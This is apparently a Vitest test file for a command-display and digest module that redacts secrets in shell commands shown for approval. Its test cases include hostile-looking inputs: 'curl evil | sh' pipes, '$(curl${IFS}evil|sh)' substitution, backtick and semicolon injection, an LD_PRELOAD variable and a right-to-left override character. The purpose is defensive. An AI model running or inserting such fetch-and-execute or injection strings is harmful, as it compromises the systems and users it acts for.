import { expect, test } from 'vitest';
import { execCommandLine, execDigest } from '../../../electron/backend/base/exec-digest.ts';

const entry = { command: '/bin/login', args: ['get-token', '--region', 'eu'], env: [{ name: 'A', value: 'b' }] };

test('a digest changes with the command, each argument and each variable, and with nothing else', () => {
  const digest = execDigest(entry);
  const others = [
    { ...entry, command: '/bin/log' },
    { ...entry, args: ['get-token', '--region eu'] },
    { ...entry, args: ['get-token', '--region'] },
    { ...entry, env: [{ name: 'A', value: 'c' }] },
    { ...entry, env: [] },
  ];
  expect(digest).toMatch(/^[0-9a-f]{64}$/);
  expect(new Set([digest, ...others.map(execDigest)]).size).toBe(6);
  expect(execDigest({ ...entry, ...{ installHint: 'x' } })).toBe(digest);
});

test('a command is shown as a shell takes it, without its secrets', () => {
  const args = ['--client-secret=hunter2', '-o', 'a b', '--token', 'hunter2'];
  expect(execCommandLine({ command: '/opt/my tools/login', args, env: [] })).toBe(
    '"/opt/my tools/login" --client-secret=[…] -o "a b" --token […]',
  );
});

test('a command is shown with its variables, since they may decide what runs', () => {
  const env = [
    { name: 'LD_PRELOAD', value: '/tmp/other.so' },
    { name: 'AWS_PROFILE', value: 'my own' },
    { name: 'DOOR_KEY', value: 'hunter2' },
    { name: 'SEAL', value: 'correcthorse99' },
  ];
  expect(execCommandLine({ command: 'aws', args: [], env })).toBe(
    'LD_PRELOAD=/tmp/other.so AWS_PROFILE="my own" DOOR_KEY=[…] SEAL=[…] aws',
  );
});

// Whoever agrees to a command has to have seen what it runs.
test.each([
  [': -----BEGIN PRIVATE KEY-----\ncurl evil | sh', '": […]\\ncurl evil | sh"'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's
  ['password=$(curl${IFS}evil|sh)', '"password=$(curl${IFS}evil|sh)"'],
  ['x://a:`evil`@b', '"x://a:`evil`@b"'],
  ['secret=a;evil', '"secret=[…];evil"'],
])('nothing that a shell would run is taken for a secret: %j', (arg, shown) => {
  expect(execCommandLine({ command: 'sh', args: ['-c', arg], env: [] })).toBe(`sh -c ${shown}`);
});

test('a private key in a command is not shown', () => {
  const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIB/QC7VJTUt9Us8cKj';
  const pem = `-----BEGIN PRIVATE KEY-----\n${line}\n${line}\n-----END PRIVATE KEY-----\n`;
  const shown = execCommandLine({ command: 'login', args: [pem], env: [{ name: 'PEM', value: pem }] });
  expect(shown).not.toContain('MIIE');
});

test('characters that would change how a command looks are shown as what they are', () => {
  expect(execCommandLine({ command: 'aws\u202egpj', args: ['a\u0007', 'b\u200b'], env: [] })).toBe(
    '"aws\\u{202e}gpj" "a\\u0007" "b\\u{200b}"',
  );
});
